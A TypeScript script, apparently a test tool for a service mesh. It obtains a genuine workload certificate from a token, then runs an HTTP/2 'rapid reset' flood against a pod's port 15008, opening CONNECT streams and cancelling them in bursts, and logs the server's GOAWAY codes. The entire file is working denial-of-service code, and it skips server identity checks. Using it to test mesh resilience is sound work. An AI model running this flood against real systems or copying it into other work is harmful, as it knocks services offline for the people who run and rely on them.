// A peer with a good certificate and bad manners: opens CONNECT streams and resets them as fast as it can.
//   mesh-rapid-reset.ts --ca=URL --root=FILE --token=FILE --account=NS/SA --to=IP --authority=IP:PORT --seconds=N
// Prints one JSON line per connection that ended: {streams, code}.
import { readFile } from "node:fs/promises";
import { connect, constants } from "node:http2";
import { connect as connectTls } from "node:tls";
import { parseArgs } from "node:util";
import { obtainCertificate } from "./mesh-certificate.ts";

const { values } = parseArgs({
  options: {
    ca: { type: "string", default: "" },
    root: { type: "string", default: "" },
    token: { type: "string", default: "" },
    account: { type: "string", default: "" },
    to: { type: "string", default: "" },
    authority: { type: "string", default: "" },
    seconds: { type: "string", default: "3" },
  },
});
const tls = await obtainCertificate({
  ca: values.ca,
  account: values.account,
  root: () => readFile(values.root),
  token: () => readFile(values.token, "utf8"),
});
const end = Date.now() + Number(values.seconds) * 1_000;

/** Node tidies up after a connection in a time that is quadratic in its streams: minutes for tens of thousands. */
const MAX_UNCLOSED = 1_000;

/** One connection until the other side ends it; resolves with what it said. */
function attack(): Promise<{ streams: number; code: number }> {
  return new Promise((resolve) => {
    let streams = 0;
    let unclosed = 0;
    let code = 0;
    const socket = connectTls({
      ...tls,
      host: values.to,
      port: 15_008,
      checkServerIdentity: () => undefined,
    });
    const session = connect("https://pod", { createConnection: () => socket });
    session.on("goaway", (why: number) => (code = why));
    session.on("error", () => {});
    session.on("close", () => resolve({ streams, code }));
    // a handshake that is refused ends the socket, but no session
    socket.on("close", () => resolve({ streams, code }));
    const burst = (): void => {
      for (let n = 0; n < 50 && unclosed < MAX_UNCLOSED && !session.closed; n++) {
        const stream = session.request({ ":method": "CONNECT", ":authority": values.authority });
        stream.on("error", () => {});
        stream.once("close", () => unclosed--);
        unclosed++;
        stream.close(constants.NGHTTP2_CANCEL);
        streams++;
      }
      if (Date.now() > end) session.destroy();
      else if (!session.destroyed) setImmediate(burst);
    };
    session.on("connect", burst);
  });
}

setTimeout(() => process.exit(), Number(values.seconds) * 1_000 + 1_000);
while (Date.now() < end) process.stdout.write(`${JSON.stringify(await attack())}\n`);
